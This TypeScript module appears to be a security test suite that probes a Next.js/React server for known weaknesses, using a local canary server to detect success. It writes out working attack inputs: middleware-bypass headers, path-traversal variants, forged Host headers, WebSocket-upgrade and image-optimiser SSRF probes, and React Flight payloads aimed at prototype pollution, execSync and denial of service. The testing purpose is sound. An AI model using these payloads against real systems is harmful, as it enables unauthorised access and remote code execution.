// Known ways around and through Next and React: headers that skip the middleware, odd paths, forged hosts, upgrades, Flight bodies.
import { createServer } from 'node:http';
import {
  anyFault,
  ask,
  askLine,
  askRaw,
  firstFault,
  head,
  type Probe,
  probesOf,
  type Seen,
  type Target,
} from '../probe.ts';

/** Counts who comes by: a server made to ask it was led astray. */
async function withCanary(run: (canary: { readonly port: number; hits(): number }) => Promise<string | undefined>) {
  let hits = 0;
  const server = createServer((_request, response) => {
    hits += 1;
    response.end('canary');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  try {
    return await run({ port: typeof address === 'object' && address ? address.port : 0, hits: () => hits });
  } finally {
    server.close();
    server.closeAllConnections();
  }
}

/** Pages and operations only administrators see. */
const guarded = [
  '/admin',
  '/admin/library',
  '/admin/settings',
  '/api/users',
  '/api/keys',
  '/api/admin/settings',
  '/api/audit',
];

/** Given; of pages, the way through the rooms of an administrator, which no address asked for here names. */
function isLetIn({ status, text, headers }: Seen): boolean {
  if (text.includes('/admin/jobs') && text.includes('/admin/bots')) return true;
  return status === 200 && (headers.get('content-type') ?? '').includes('json') && !text.includes('"openapi"');
}

const skipping: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'x-middleware-subrequest: proxy': { 'x-middleware-subrequest': 'proxy' },
  'x-middleware-subrequest: middleware': { 'x-middleware-subrequest': 'middleware' },
  'x-middleware-subrequest: five times': { 'x-middleware-subrequest': Array(5).fill('middleware').join(':') },
  'x-middleware-subrequest: src five times': { 'x-middleware-subrequest': Array(5).fill('src/middleware').join(':') },
  'x-middleware-subrequest: proxy five times': { 'x-middleware-subrequest': Array(5).fill('proxy').join(':') },
  'x-middleware-subrequest: pages/_middleware': { 'x-middleware-subrequest': 'pages/_middleware' },
  'x-middleware-rewrite': { 'x-middleware-rewrite': '/admin' },
  'x-middleware-next': { 'x-middleware-next': '1' },
  'x-middleware-override-headers': { 'x-middleware-override-headers': 'cookie', 'x-middleware-request-cookie': 'a=b' },
  'x-nextjs-data': { 'x-nextjs-data': '1' },
  'x-original-url': { 'x-original-url': '/login', 'x-rewrite-url': '/login' },
  'x-invoke-path': { 'x-invoke-path': '/admin', 'x-invoke-output': '/admin', 'x-invoke-status': '200' },
  'x-matched-path': { 'x-matched-path': '/login' },
  'x-now-route-matches': { 'x-now-route-matches': '1=login' },
  'RSC: 1': { rsc: '1' },
  'RSC with a prefetch': { rsc: '1', 'next-router-prefetch': '1', 'next-url': '/admin' },
  'RSC with a segment': { rsc: '1', 'next-router-segment-prefetch': '/_tree' },
  'a forged address of this machine': {
    'x-forwarded-for': '127.0.0.1',
    'x-sv-remote': '127.0.0.1',
    'x-sv-client': '127.0.0.1',
  },
};

const pathVariants: readonly ((path: string) => string)[] = [
  (path) => path.toUpperCase(),
  (path) => path.replace(/^\/(\w)/, (_all, letter: string) => `/${letter.toUpperCase()}`),
  (path) => `/${path}`,
  (path) => `//${path}`,
  (path) => `${path}%2f`,
  (path) => `${path}/`,
  (path) => `${path}.`,
  (path) => `${path}/.`,
  (path) => `${path}%2e`,
  (path) => `${path};x=y`,
  (path) => `${path}%00`,
  (path) => `${path}%20`,
  (path) => `/.${path}`,
  (path) => `/login/..${path}`,
  (path) => `/login/%2e%2e${path}`,
  (path) => `/login/..%2f${path.slice(1)}`,
  (path) => `/_next/..${path}`,
  (path) => `/_next/static/%2e%2e/%2e%2e${path}`,
  (path) => `/en${path}`,
  (path) => path.replace('a', '%61'),
  (path) => path.replace('a', '%2561'),
  (path) => `/\\${path.slice(1)}`,
  (path) => `${path}?nxtPid=1&nxtPpath=login`,
  (path) => `${path}?__nextDataReq=1&__nextLocale=en`,
  (path) => `${path}?_rsc=1`,
  (path) => `${path}.rsc`,
  (path) => `${path}.txt`,
  (path) => `/_next/data/x${path}.json`,
  (path) => `/index${path}`,
  (path) => `${path}#x`,
];

const forgedHosts: readonly (readonly string[])[] = [
  ['Host: evil.example'],
  ['Host: evil.example:80'],
  ['X-Forwarded-Host: evil.example'],
  ['X-Forwarded-Host: evil.example', 'X-Forwarded-Proto: https'],
  ['Forwarded: host=evil.example;proto=https'],
  ['X-Host: evil.example'],
  ['X-Forwarded-Server: evil.example'],
  ['X-Original-Host: evil.example'],
];

const hostPages = [
  '/',
  '/login',
  '/account',
  '/admin',
  '/api/auth/signin',
  '/api/auth/signout',
  '/api/auth/csrf',
  '/api/auth/providers',
];

async function hostFault(target: Target, lines: readonly string[]): Promise<string | undefined> {
  return firstFault(hostPages, async (path) => {
    const seen = await askRaw(target, head(target, `GET ${path} HTTP/1.1`, lines));
    if (!seen) return undefined;
    const place = seen.headers.get('location') ?? '';
    if (place.includes('evil.example')) return `${path} leads to ${place}`;
    if (seen.text.includes('evil.example')) return `${path} names the forged host`;
    return seen.headers.get('set-cookie')?.includes('evil.example')
      ? `${path} keeps the forged host in a cookie`
      : undefined;
  });
}

const upgradeTargets = [
  'http://127.0.0.1:PORT/x',
  'ws://127.0.0.1:PORT/x',
  '//127.0.0.1:PORT/x',
  '/_next/webpack-hmr',
  '/\\127.0.0.1:PORT/x',
];

const upgrade = [
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
  'Sec-WebSocket-Version: 13',
];

async function upgradeFault(target: Target, place: string): Promise<string | undefined> {
  return withCanary(async ({ port, hits }) => {
    const start = `GET ${place.replace('PORT', String(port))} HTTP/1.1`;
    const line = await askLine(target, head(target, start, upgrade).replace('Connection: close\r\n', ''));
    if (hits() > 0) return 'it asked another server';
    return / (?:101|2\d\d) /.test(line) ? `it is answered ${line}` : undefined;
  });
}

/** Bodies that React's decoder was once led astray by; each would ask the canary. */
const flightBodies: Readonly<Record<string, (port: number) => readonly (readonly [string, string])[]>> = {
  'a thenable with a forged response': (port) => [
    [
      '0',
      JSON.stringify({
        // biome-ignore lint/suspicious/noThenProperty: it is what leads the decoder astray.
        then: '$1:__proto__:then',
        status: 'resolved_model',
        reason: -1,
        value: '{"then":"$B1337"}',
        _response: {
          _prefix: `fetch('http://127.0.0.1:${port}/')//`,
          _formData: { get: '$1:constructor:constructor' },
        },
      }),
    ],
    ['1', '"$@0"'],
  ],
  'a path through the prototype': () => [
    ['0', '["$1:constructor:constructor","$1:__proto__:polluted"]'],
    ['1', '{"a":"$1"}'],
  ],
  'a module that is none': () => [
    ['0', '["$F1"]'],
    ['1', '{"id":"child_process#execSync","bound":null}'],
  ],
  'a circle': () => [
    ['0', '"$1"'],
    ['1', '"$0"'],
  ],
  'very deep': () => [['0', `${'['.repeat(20_000)}${']'.repeat(20_000)}`]],
  'very many references': () => [
    ['0', JSON.stringify(Array(20_000).fill('$1'))],
    ['1', '"x"'],
  ],
  'a big number': () => [['0', `"$n${'9'.repeat(100_000)}"`]],
};

async function flightFault(target: Target, body: (port: number) => readonly (readonly [string, string])[]) {
  return withCanary(async ({ port, hits }) => {
    for (const path of ['/', '/login', '/account']) {
      for (const action of ['x', '0'.repeat(40), '7f'.repeat(21)]) {
        const form = new FormData();
        for (const [name, value] of body(port)) form.append(name, value);
        const headers = { 'next-action': action, accept: 'text/x-component' };
        const answer = await fetch(target.url + path, { method: 'POST', body: form, headers, redirect: 'manual' });
        const text = await answer.text();
        if (hits() > 0) return 'it ran what was sent';
        if (/child_process|polluted|Symbol\(|at \w+ \(/.test(text))
          return `${path} tells of its insides: ${text.slice(0, 200)}`;
        if (answer.status === 200) return `${path} took an action`;
      }
    }
    const alive = await ask(target, '/login');
    return alive.status >= 500 ? 'it does not answer any more' : undefined;
  });
}

async function imageFault(target: Target): Promise<string | undefined> {
  return withCanary(async ({ port, hits }) => {
    for (const place of [`http://127.0.0.1:${port}/x.svg`, `//127.0.0.1:${port}/x.png`, '/icon.svg', '/api/users']) {
      const seen = await ask(target, `/_next/image?url=${encodeURIComponent(place)}&w=640&q=75`);
      if (hits() > 0) return 'it fetches pictures from elsewhere';
      if (seen.headers.get('content-type')?.includes('svg')) return 'it serves SVG as a picture';
      if (/"users"/.test(seen.text)) return 'it asks itself in our name';
    }
    return undefined;
  });
}

export const nextProbes: readonly Probe[] = [
  {
    row: 'middleware',
    name: 'the administrator is let in',
    isWanted: true,
    // What the others look for is there to be found.
    run: (target) =>
      firstFault(guarded, async (path) => {
        const seen = await ask(target, path, { headers: { cookie: target.cookie } });
        return isLetIn(seen) ? undefined : `${path} is closed`;
      }),
  },
  ...probesOf('middleware', Object.entries(skipping), (target, headers) =>
    firstFault(guarded, async (path) => {
      const seen = await ask(target, path, { headers });
      return isLetIn(seen) ? `${path} is open` : undefined;
    }),
  ),
  ...pathVariants.map(
    (variant): Probe => ({
      row: 'middleware',
      name: `the path ${variant('/admin')}`,
      run: (target) =>
        anyFault(guarded, async (path) => {
          const seen = await askRaw(target, head(target, `GET ${variant(path)} HTTP/1.1`));
          if (seen && seen.status >= 500) return `${variant(path)} is answered ${seen.status}`;
          return seen && isLetIn(seen) ? `${variant(path)} is open` : undefined;
        }),
    }),
  ),
  ...probesOf(
    'next-server',
    forgedHosts.map((lines) => [lines.join(', '), lines] as const),
    hostFault,
  ),
  ...probesOf(
    'next-server',
    upgradeTargets.map((place) => [`an upgrade to ${place}`, place] as const),
    upgradeFault,
  ),
  ...probesOf(
    'next-server',
    Object.entries(flightBodies).map(([name, body]) => [`an action with ${name}`, body] as const),
    flightFault,
  ),
  { row: 'next-server', name: 'the image optimiser', run: imageFault },
];
